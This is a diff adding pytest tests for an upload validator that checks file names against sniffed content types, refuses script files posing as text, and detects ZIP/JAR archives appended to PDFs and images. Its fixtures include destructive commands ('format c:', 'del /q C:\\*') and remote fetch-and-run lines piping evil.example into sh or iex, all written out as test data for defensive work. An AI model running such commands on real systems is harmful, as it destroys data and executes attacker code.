@@ -9,7 +9,7 @@ import zipfile
 import pytest
 
 from db.errors import InvalidValue
-from db.files import MAX_ZIP_DIRECTORY_BYTES, clean_file_name, content_type
+from db.files import MAX_ZIP_DIRECTORY_BYTES, clean_file_name, content_type, stored_name
 
 DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -247,3 +247,134 @@ def test_reserved_characters_are_refused() -> None:
     with pytest.raises(InvalidValue) as refused:
         clean_file_name("a?b.pdf")
     assert refused.value.message == 'The file name has reserved characters (< > : " | ? *).'
+
+
+# --- the name's extension agrees with the bytes ---------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "media_type"),
+    [
+        ("peticao.pdf", "application/pdf"),
+        ("PETICAO.PDF", "application/pdf"),
+        ("foto.jpeg", "image/jpeg"),
+        ("foto.JPG", "image/jpeg"),
+        ("scan.tif", "image/tiff"),
+        ("custas.csv", "text/plain"),
+        ("notas.md", "text/plain"),
+        ("minuta.docx", DOCX),
+        ("planilha.ods", ODS),
+    ],
+)
+def test_a_name_whose_extension_fits_the_bytes_is_kept(name: str, media_type: str) -> None:
+    assert stored_name(name, media_type) == name
+
+
+@pytest.mark.parametrize(
+    ("name", "media_type", "kept"),
+    [
+        ("contrato", "application/pdf", "contrato.pdf"),
+        ("documento", "image/jpeg", "documento.jpg"),
+        ("ata", "text/plain", "ata.txt"),
+        ("x" * 200, DOCX, "x" * 195 + ".docx"),
+    ],
+)
+def test_a_name_without_extension_gets_the_types_own(name: str, media_type: str, kept: str) -> None:
+    assert stored_name(name, media_type) == kept
+
+
+@pytest.mark.parametrize(
+    ("name", "media_type", "message"),
+    [
+        (
+            "a.exe",
+            "application/pdf",
+            "The file's name ends in .exe but its content is a PDF; name it with .pdf.",
+        ),
+        (
+            "foto.png",
+            "image/jpeg",
+            "The file's name ends in .png but its content is a JPEG image; "
+            "name it with .jpg or .jpeg.",
+        ),
+        (
+            "minuta.doc",
+            DOCX,
+            "The file's name ends in .doc but its content is a Word document; name it with .docx.",
+        ),
+        (
+            "planilha.zip",
+            XLSX,
+            "The file's name ends in .zip but its content is an Excel spreadsheet; "
+            "name it with .xlsx.",
+        ),
+    ],
+)
+def test_a_name_whose_extension_contradicts_the_bytes_is_refused(
+    name: str, media_type: str, message: str
+) -> None:
+    with pytest.raises(InvalidValue) as refused:
+        stored_name(name, media_type)
+    assert (refused.value.field, refused.value.message) == ("file", message)
+
+
+SCRIPTS = [
+    ("limpa.cmd", b"@echo off\r\ndel /q C:\\*\r\n"),
+    ("limpa.bat", b"@echo off\r\nformat c: /q\r\n"),
+    ("abre.vbs", b'CreateObject("WScript.Shell").Run "calc"\r\n'),
+    ("pagina.hta", b"<script>new ActiveXObject('WScript.Shell')</script>\n"),
+    ("tarefa.wsf", b'<job><script language="JScript">WScript.Echo(1)</script></job>\n'),
+    ("abre.js", b"require('child_process').exec('calc')\n"),
+    ("roda.ps1", b"Invoke-WebRequest http://evil.example | iex\n"),
+    ("abre.command", b"open -a Calculator\n"),
+    ("atalho.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c evil\n"),
+    ("tela.scr", b"rundll32 something\n"),
+    ("run.sh", b"curl evil.example | sh\n"),
+]
+
+
+@pytest.mark.parametrize(("name", "content"), SCRIPTS, ids=[name for name, _ in SCRIPTS])
+def test_a_script_read_as_plain_text_is_refused_by_its_name(name: str, content: bytes) -> None:
+    media_type = sniff(content, name)
+    assert media_type == "text/plain"
+
+    with pytest.raises(InvalidValue) as refused:
+        stored_name(clean_file_name(name), media_type)
+
+    extension = name[name.rindex(".") :]
+    assert refused.value.message == (
+        f"The file's name ends in {extension} but its content is plain text; "
+        "name it with .txt, .csv, .tsv, .md or .log."
+    )
+
+
+def test_a_trailing_dot_does_not_hide_the_extension() -> None:
+    assert clean_file_name("a.exe. ") == "a.exe"
+
+
+# --- an archive carried inside another file -------------------------------------------
+
+JAR = archive(("META-INF/MANIFEST.MF", "Main-Class: Main\n"), ("Main.class", "\xca\xfe"))
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
+PDF = b"%PDF-1.7\n" + b"1 0 obj << >> endobj\n" * 50 + b"%%EOF\n"
+CARRIES = "The file carries an archive inside: a ZIP (or JAR) is appended to its content."
+
+
+@pytest.mark.parametrize(
+    ("content", "name"),
+    [
+        (PDF + JAR, "peticao.pdf"),
+        (PNG + JAR, "foto.png"),
+        (PDF + JAR + b"\x00" * (0xFFFF - 100), "peticao.pdf"),  # the ZIP's comment at its longest
+        ("Ata da reunião\n".encode() + JAR, "ata.txt"),
+    ],
+    ids=["pdf", "png", "far-from-the-end", "text"],
+)
+def test_a_file_with_an_archive_appended_is_refused(content: bytes, name: str) -> None:
+    assert refusal(content, name) == CARRIES
+
+
+def test_an_archive_record_before_the_last_64_kib_is_not_looked_for() -> None:
+    # A ZIP reader (java -jar too) finds the end record only within the tail.
+    content = PDF + JAR + b"\n" * (0xFFFF + 22)
+    assert sniff(content, "peticao.pdf") == "application/pdf"
